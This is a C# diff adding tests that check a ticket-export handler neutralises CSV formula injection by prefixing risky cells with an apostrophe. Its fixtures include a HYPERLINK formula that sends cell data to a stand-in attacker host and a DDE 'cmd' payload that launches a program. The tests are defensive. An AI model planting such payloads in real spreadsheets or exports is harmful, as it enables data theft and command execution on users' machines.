@@ -2,6 +2,7 @@ using System.Text.Json.Nodes;
 using McpCqrs.Application.Common.Querying;
 using McpCqrs.Application.Customers.Commands.CreateCustomer;
 using McpCqrs.Application.Mcp.Context;
+using McpCqrs.Application.Tickets.Commands.AssignTicket;
 using McpCqrs.Application.Tickets.Commands.CreateTicket;
 using McpCqrs.Application.Tickets.Commands.ExportTickets;
 using McpCqrs.Domain.Common;
@@ -78,6 +79,104 @@ public sealed class ExportTicketsTests : IAsyncLifetime
         Assert.Equal("ticket.export_declined", error.Code);
         Assert.Equal(1, input.Asked);
         Assert.Empty(progress.Reports);
+    }
+
+    [Fact]
+    public async Task Text_cells_that_a_spreadsheet_would_read_as_a_formula_are_exported_as_text()
+    {
+        string[] hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "=1,2"];
+        int customer;
+        await using (var db = _database.NewContext())
+        {
+            customer = (await new CreateCustomerHandler(db, _clock).Handle(new CreateCustomer("=cmd|' /C calc'!A0", "mallory@example.com"), default)).Id;
+            foreach (var title in hostile)
+            {
+                var ticket = await new CreateTicketHandler(db, _clock).Handle(new CreateTicket(customer, title, Tags: ["-rm", "ok"]), default);
+                await new AssignTicketHandler(db, _clock).Handle(new AssignTicket(ticket.Id, "@agent"), default);
+            }
+        }
+
+        var export = await ExportAsync(new ExportTickets($"customerId={customer}", "id"), new ScriptedInput(accept: false), new RecordedProgress());
+
+        var rows = ParseCsv(export.Csv).Skip(1).ToList();
+        Assert.Equal(hostile.Length, rows.Count);
+        for (var i = 0; i < hostile.Length; i++)
+        {
+            var row = rows[i];
+            Assert.Equal(9, row.Count);
+            Assert.Equal("'=cmd|' /C calc'!A0", row[1]);
+            Assert.Equal("'" + hostile[i].Trim(), row[2]); // the domain trims titles; the field tests cover a leading tab or CR
+            Assert.Equal("'@agent", row[5]);
+            Assert.Equal("'-rm ok", row[6]);
+            Assert.All(row, cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"cell {cell} starts a formula"));
+        }
+    }
+
+    [Theory]
+    [InlineData("Printer jam", "Printer jam")]
+    [InlineData("1+1=2", "1+1=2")]
+    [InlineData("a=b, c", "\"a=b, c\"")]
+    [InlineData("=1+1", "'=1+1")]
+    [InlineData("+44 20 7946 0000", "'+44 20 7946 0000")]
+    [InlineData("-", "'-")]
+    [InlineData("@here", "'@here")]
+    [InlineData("\tx", "'\tx")]
+    [InlineData("\rx", "\"'\rx\"")]
+    [InlineData("=\"quoted\",x", "\"'=\"\"quoted\"\",x\"")]
+    [InlineData("", "")]
+    [InlineData(null, "")]
+    public void A_field_is_neutralised_then_quoted(string? value, string expected) =>
+        Assert.Equal(expected, ExportTicketsHandler.Field(value));
+
+    /// <summary>RFC 4180 records: quoted fields may hold commas, doubled quotes and line breaks.</summary>
+    private static List<List<string>> ParseCsv(string csv)
+    {
+        var rows = new List<List<string>>();
+        var row = new List<string>();
+        var cell = new System.Text.StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < csv.Length; i++)
+        {
+            var c = csv[i];
+            if (quoted)
+            {
+                if (c == '"' && i + 1 < csv.Length && csv[i + 1] == '"')
+                {
+                    cell.Append('"');
+                    i++;
+                }
+                else if (c == '"')
+                {
+                    quoted = false;
+                }
+                else
+                {
+                    cell.Append(c);
+                }
+            }
+            else if (c == '"')
+            {
+                quoted = true;
+            }
+            else if (c == ',')
+            {
+                row.Add(cell.ToString());
+                cell.Clear();
+            }
+            else if (c == '\n')
+            {
+                row.Add(cell.ToString());
+                cell.Clear();
+                rows.Add(row);
+                row = [];
+            }
+            else
+            {
+                cell.Append(c);
+            }
+        }
+
+        return rows;
     }
 
     private sealed class RecordedProgress : IProgressReporter
